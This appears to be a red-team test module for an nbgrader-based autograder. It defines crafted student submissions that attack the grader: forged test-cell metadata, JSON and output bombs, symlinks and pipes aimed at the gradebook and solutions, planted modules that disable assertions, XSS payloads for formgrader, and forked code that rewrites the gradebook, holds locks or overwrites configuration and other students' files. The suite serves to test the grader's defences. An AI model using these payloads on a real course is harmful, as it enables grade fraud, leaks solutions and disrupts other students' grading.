"""Crafted submissions, and code that goes for the course itself.

An attacker knows where the course is: ``ROOT`` in a payload is its folder, which every
user may write here, so that no file mode helps the sandbox.
"""

import json
import os
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

from conftest import cell_of, graded
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from autograder.course import Course
from redteam import exam

Harm = Callable[[Course, str], str]


@dataclass(frozen=True)
class Handin:
    """One submission that is an attack as a whole.

    Attributes
    ----------
    name : str
        In kebab-case; also the attacking student's id.
    tries : str
        What it tries, and why it could work: one sentence.
    notebook : callable
        Makes the notebook, or its bytes, or None if `place` makes it.
    place : callable
        Puts other things into the submission's folder.
    harm : callable
        Tells from the course what has been changed or has leaked; empty if nothing.
    control : str
        How it is proved: "stock" if it pays, does harm or stops the run in stock
        nbgrader; "plain" if its ``code`` does its harm when an ordinary Python runs it;
        "none" if being handed in is all it does.
    code : str
        The payload in a cell, if there is one.
    """

    name: str
    tries: str
    notebook: Callable[[], object] = lambda: exam.answered(exam.wrong())
    place: Callable[[Course, Path], None] = lambda course, folder: None
    harm: Harm = lambda course, student: ""
    control: str = "none"
    code: str = ""
    files: dict[str, bytes] = field(default_factory=dict)

    def hand_in(self, course: Course) -> None:
        """Put the submission into ``submitted/``."""
        notebook = self.notebook()
        if self.code:
            code = self.code.replace("ROOT", repr(str(course.root)))
            answers = {**exam.wrong(), "rms": f"{code}\nprint('armed')\n"}
            answers["rms"] += exam.wrong()["rms"]
            notebook = exam.answered(answers)
        if isinstance(notebook, dict):
            notebook = json.dumps(notebook).encode()
        folder = exam.add(course, self.name, notebook or b"", self.files)
        if notebook is None:
            (folder / f"{exam.NOTEBOOK}.ipynb").unlink()
        self.place(course, folder)


# --------------------------------------------------------------- notebooks, bent


def _tagged() -> object:
    notebook = exam.answered(dict.fromkeys(exam.ITEMS, ""))
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution"]
    return notebook


def _copied() -> object:
    notebook = exam.answered(exam.wrong())
    copy = dict(cell_of(notebook, "rms-test"), id="copy", source="pass")
    notebook.cells += [copy, copy | {"id": "copy-2"}]
    return notebook


def _points_edited() -> object:
    notebook = exam.answered(exam.wrong())
    cell_of(notebook, "scale-test").metadata.nbgrader["points"] = 1000
    for name in exam.ITEMS:
        test = cell_of(notebook, f"{name}-test")
        test.source = "4.0"
        test.metadata.nbgrader |= {"solution": True, "locked": False}
        test.outputs = [
            new_output("execute_result", data={"text/plain": "4.0"}, execution_count=1)
        ]
    return notebook


def _schema() -> object:
    notebook = exam.answered(exam.wrong())
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader["schema_version"] = 99
    return notebook


def _ids_swapped() -> object:
    """The known answer's cells carry the ids of the item that gives most."""
    notebook = exam.answered(exam.wrong())
    for name, other in (("scale", "rms"), ("rms", "scale")):
        for end in ("", "-test"):
            cell_of(notebook, f"{name}{end}").metadata.nbgrader["grade_id"] = (
                f"{other}{end} "
            )
    for cell in notebook.cells:
        grading = cell.metadata.get("nbgrader", {})
        grading["grade_id"] = grading.get("grade_id", "").strip()
    return notebook


def _test_of_their_own() -> object:
    notebook = exam.answered(exam.wrong())
    extra = new_code_cell("pass")
    notebook.cells.append(graded(extra, "mine-test", points=100, locked=True))
    return notebook


def _huge() -> bytes:
    return json.dumps(exam.answered(exam.wrong(), "#" + "x" * (21 * 1024**2))).encode()


_DEPTH = 100_000
_NESTED = b'{"cells": ' + b"[" * _DEPTH + b"]" * _DEPTH + b"}"
_METADATA_NESTED = (
    b'{"nbformat": 4, "nbformat_minor": 5, "metadata": '
    + b'{"a":' * _DEPTH
    + b"1"
    + b"}" * _DEPTH
    + b', "cells": []}'
)
_NUMBERS = (
    b'{"nbformat": 4, "nbformat_minor": 1e999, "metadata": {"n": '
    + b"9" * 100_000
    + b', "x": NaN}, "cells": []}'
)


def _many_cells() -> bytes:
    cell = b'{"cell_type":"code","metadata":{},"source":"1","outputs":[]}'
    return (
        b'{"nbformat":4,"metadata":{},"cells":[' + b",".join([cell] * 100_000) + (b"]}")
    )


# ------------------------------------------------------------------ links and files


def _graded_bytes(course: Course, student: str) -> bytes:
    """Everything that was made of a submission, in one piece."""
    folders = [course.autograded / student, course.feedback / student]
    files = [path for folder in folders for path in folder.rglob("*")]
    return b"".join(path.read_bytes() for path in files if path.is_file())


def gradebook_came_along(course: Course, student: str) -> str:
    """Tell whether the gradebook, or a solution, is among what was made."""
    made = _graded_bytes(course, student)
    if b"SQLite format 3" in made:
        return "the gradebook was copied"
    links = [p for p in (course.autograded / student).rglob("*") if p.is_symlink()]
    return f"links in autograded: {links}" if links else ""


def _links(course: Course, folder: Path) -> None:
    for name in ("data.txt", "data/deep.txt", "timestamp.txt", "checks.py"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).symlink_to(course.root / "gradebook.db")
    (folder / "course").symlink_to(course.root)


def _link_as_notebook(course: Course, folder: Path) -> None:
    source = course.source / exam.ASSIGNMENT / f"{exam.NOTEBOOK}.ipynb"
    (folder / f"{exam.NOTEBOOK}.ipynb").symlink_to(source)


def _fifo(course: Course, folder: Path) -> None:
    for name in (f"{exam.NOTEBOOK}.ipynb", "data.csv", "timestamp.txt"):
        os.mkfifo(folder / name)
    (folder / "loop").symlink_to(folder)


def _odd_names(course: Course, folder: Path) -> None:
    for name in ("a\nb.txt", "-rf", "<script>alert(1)</script>", "\udcff.txt"):
        (folder / name.replace("/", "\u2215")).write_text("x")
    (folder / f"{exam.NOTEBOOK}.ipynb.d").mkdir()


_KERNEL_LAUNCHER = b"""
import sys
sys.path.pop(0)
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
from ipykernel import kernelapp
kernelapp.launch_new_instance()
"""

# --------------------------------------------------------------------- scripts

_SCRIPT = "<script>parent.pwned=1</script><img src=x onerror=pwned()>"


def _scripts_in_markdown() -> object:
    notebook = exam.answered(exam.wrong())
    notebook.cells.append(new_markdown_cell(f"{_SCRIPT}\n\n[x](javascript:pwned())"))
    notebook.cells[-1].id = "script"
    return notebook


def script_for_formgrader(course: Course, student: str) -> str:
    """Tell whether formgrader's page of a graded notebook holds the script."""
    from nbconvert import HTMLExporter

    path = course.autograded / student / exam.ASSIGNMENT / f"{exam.NOTEBOOK}.ipynb"
    if not path.exists():
        return ""
    page, _ = HTMLExporter().from_filename(str(path))
    found = _Acting()
    found.feed(page)
    return f"in the page that formgrader makes: {found.seen}" if found.seen else ""


class _Acting(HTMLParser):
    """Finds what of the payload would act in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at the attributes of an element."""
        self._in_script = tag == "script"
        for name, value in attrs:
            acts = name.startswith("on") or "script:" in (value or "")
            if acts and "pwned" in (value or ""):
                self.seen.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        """Look at the text of a script."""
        if self._in_script and "pwned" in data:
            self.seen.append(f"<script>{data}")
        self._in_script = False


# ------------------------------------------------------- code against the course

_TABLES = """
import sqlite3
def attack():
    book = sqlite3.connect("file:" + ROOT + "/gradebook.db?mode=rw", uri=True)
    with book:
        book.execute("update grade set manual_score = 200")
        book.execute(SQL)
"""
_DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork(): os._exit(0)
    time.sleep(DELAY)
    try: attack()
    finally: os._exit(0)
"""
_TRIGGER = (
    "create trigger always after insert on source_cell "
    "begin update source_cell set source = 'pass'; end"
)


def _gradebook(sql: str, delay: float | None = None) -> str:
    run = _DAEMON.replace("DELAY", str(delay)) if delay else "attack()"
    safe = f"try:\n    {run}\nexcept Exception as error: print(error)"
    return _TABLES.replace("SQL", repr(sql)) + (run if delay else safe)


def tables_added(course: Course, student: str) -> str:
    """Tell whether something was added to the gradebook's schema."""
    names = {"pwned", "always"}
    with sqlite3.connect(course.root / "gradebook.db", timeout=20) as book:
        found = {name for (name,) in book.execute("select name from sqlite_master")}
    return f"added to the gradebook: {found & names}" if found & names else ""


def _locked(course: Course, student: str) -> str:
    try:
        with sqlite3.connect(course.root / "gradebook.db", timeout=0.2) as book:
            book.execute("begin immediate")
    except sqlite3.OperationalError as error:
        return str(error)
    return ""


def _write(path: str, text: str) -> str:
    return (
        f"try: open(ROOT + {path!r}, 'a').write({text!r})\n"
        "except OSError as error: print(error)"
    )


def _changed(path: str) -> Harm:
    def harm(course: Course, student: str) -> str:
        file = course.root / path
        there = file.exists() and "pwned" in file.read_text(errors="replace")
        return f"{path} was written" if there else ""

    return harm


_LINKS_MADE = """
import os
os.makedirs("sub", exist_ok=True)
for name in ("exam.ipynb", "result.csv", "sub/gradebook.db", "exam.html"):
    if os.path.lexists(name): os.remove(name)
    os.symlink(ROOT + "/gradebook.db", name)
"""

_LATER = f"submitted/zoe-honest/{exam.ASSIGNMENT}/{exam.NOTEBOOK}.ipynb"
_SOURCE = f"source/{exam.ASSIGNMENT}/{exam.NOTEBOOK}.ipynb"

HANDINS = [
    Handin(
        "skip-execution-tag",
        "A tag on the test cells keeps them from running, and no output is full marks.",
        _tagged,
        control="stock",
    ),
    Handin(
        "test-copied",
        "A copied test cell stops the grading of everybody.",
        _copied,
        control="stock",
    ),
    Handin(
        "points-edited",
        "Points, flags, texts and outputs of the test cells are edited.",
        _points_edited,
    ),
    Handin(
        "wrong-schema-version",
        "Metadata of an unknown version stop the grading of everybody.",
        _schema,
        control="stock",
    ),
    Handin(
        "ids-swapped",
        "The one known answer takes the id of the item that gives most.",
        _ids_swapped,
    ),
    Handin(
        "test-of-their-own",
        "A test cell of the student's own gives a hundred points.",
        _test_of_their_own,
    ),
    Handin(
        "notebook-huge",
        "A notebook of many megabytes fills the grader's memory.",
        _huge,
    ),
    Handin(
        "notebook-nested",
        "JSON nested deeper than a parser's stack.",
        lambda: _NESTED,
    ),
    Handin(
        "notebook-nested-in-metadata",
        "JSON nested deep where nothing is looked at.",
        lambda: _METADATA_NESTED,
    ),
    Handin(
        "notebook-of-absurd-numbers",
        "Numbers with more digits than are read, infinite ones, and no numbers.",
        lambda: _NUMBERS,
    ),
    Handin(
        "notebook-of-many-cells",
        "A hundred thousand cells.",
        _many_cells,
    ),
    Handin(
        "link-to-the-gradebook",
        "A link is followed, and the gradebook lands where feedback is given back.",
        place=_links,
        harm=gradebook_came_along,
        control="stock",
    ),
    Handin(
        "link-as-notebook",
        "The notebook is a link to the instructor's own, with its solutions.",
        lambda: None,
        place=_link_as_notebook,
        control="stock",
    ),
    Handin(
        "pipe-as-notebook",
        "Opening a named pipe waits for ever; a link to itself is a deep tree.",
        lambda: None,
        place=_fifo,
    ),
    Handin(
        "odd-file-names",
        "Names with line breaks, options, markup and bytes that are no text.",
        place=_odd_names,
    ),
    Handin(
        "numpy-beside-the-notebook",
        "`import numpy` finds a file that was handed in.",
        files={
            "numpy.py": b"class testing:\n    assert_allclose = lambda *a, **k: None\n"
        },
        control="stock",
    ),
    Handin(
        "kernel-launcher-beside-the-notebook",
        "The kernel is started as a module, which the working folder has too.",
        files={"ipykernel_launcher.py": _KERNEL_LAUNCHER},
        control="stock",
    ),
    Handin(
        "do-execute-patched",
        "Who owns the kernel's do_execute decides what running a test means.",
        code="""
async def do_execute(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel = getattr(get_ipython(), "kernel", None)
if kernel: kernel.do_execute = do_execute
""",
        control="stock",
    ),
    Handin(
        "script-in-markdown",
        "Formgrader shows a graded notebook's prose with the instructor's rights.",
        _scripts_in_markdown,
        harm=script_for_formgrader,
        control="stock",
    ),
    Handin(
        "script-in-outputs",
        "Formgrader shows a graded notebook's outputs with the instructor's rights.",
        code=f"""
from IPython.display import HTML, Javascript, SVG, Markdown, display
script = {_SCRIPT!r}
for show in (HTML(script), Javascript("parent.pwned=1"), Markdown(script),
             SVG("<svg xmlns='http://www.w3.org/2000/svg'>" + script.replace(
                 "<img src=x onerror=pwned()>", "") + "</svg>")):
    display(show)
display({{"text/html": script, "image/svg+xml": "<svg onload=parent.pwned=1></svg>",
          "text/latex": script}}, raw=True)
""",
        harm=script_for_formgrader,
        control="stock",
    ),
    Handin(
        "gradebook-written",
        "Code in the course folder opens the gradebook and gives itself points.",
        code=_gradebook("create table pwned (x)"),
        harm=tables_added,
        control="plain",
    ),
    Handin(
        "gradebook-written-later",
        "A daemon waits until the grades are in, then writes them.",
        code=_gradebook("create table pwned (x)", delay=2.0),
        harm=tables_added,
        control="plain",
    ),
    Handin(
        "tests-replaced-in-the-gradebook",
        "Stock nbgrader takes everybody's tests from the gradebook: replace them.",
        code=_gradebook(_TRIGGER),
        harm=tables_added,
        control="plain",
    ),
    Handin(
        "gradebook-locked",
        "A process that holds a lock on the gradebook stops everybody's grading.",
        code="""
import os, sqlite3, time
if os.fork() == 0:
    try:
        book = sqlite3.connect("file:" + ROOT + "/gradebook.db?mode=rw", uri=True)
        book.execute("begin exclusive")
        time.sleep(6)
    finally: os._exit(0)
time.sleep(0.5)
""",
        harm=_locked,
        control="plain",
    ),
    Handin(
        "grader-s-lock-held",
        "A lock on the grader's own lock file keeps the next grading from starting.",
        code="""
import fcntl, os, time
if os.fork() == 0:
    try:
        for name in ("autograded/.lock", "gradebook.db", "nbgrader_config.py"):
            try: fcntl.flock(open(ROOT + "/" + name), fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError: pass
        open(ROOT + "/pwned.txt", "w").write("pwned")
        time.sleep(1)
    finally: os._exit(0)
time.sleep(0.5)
""",
        harm=_changed("pwned.txt"),
        control="plain",
    ),
    Handin(
        "configuration-appended",
        "The configuration is code that the instructor's next command runs.",
        code=_write("/nbgrader_config.py", "\npwned = 1\n"),
        harm=_changed("nbgrader_config.py"),
        control="plain",
    ),
    Handin(
        "later-submission-overwritten",
        "Another student's notebook lies beside, and has not been graded yet.",
        code=_write(f"/{_LATER}", "pwned"),
        harm=_changed(_LATER),
        control="plain",
    ),
    Handin(
        "source-overwritten",
        "The tests of everybody are in the instructor's notebook.",
        code=_write(f"/{_SOURCE}", "pwned"),
        harm=_changed(_SOURCE),
        control="plain",
    ),
    Handin(
        "feedback-planted",
        "A page of another student's feedback is written by this one.",
        code=_write("/planted.html", "pwned"),
        harm=_changed("planted.html"),
        control="plain",
    ),
    Handin(
        "symlinked-outputs",
        "Links made where results lie are followed by whoever collects them.",
        code=_LINKS_MADE,
        harm=gradebook_came_along,
    ),
    Handin(
        "one-line-of-200-mb",
        "Stock nbgrader counts lines: one line makes a notebook and a page of 200 MB.",
        code="print('x' * 200_000_000)",
        harm=lambda course, student: (
            "what was made is too large"
            if len(_graded_bytes(course, student)) > 6_000_000
            else ""
        ),
    ),
]
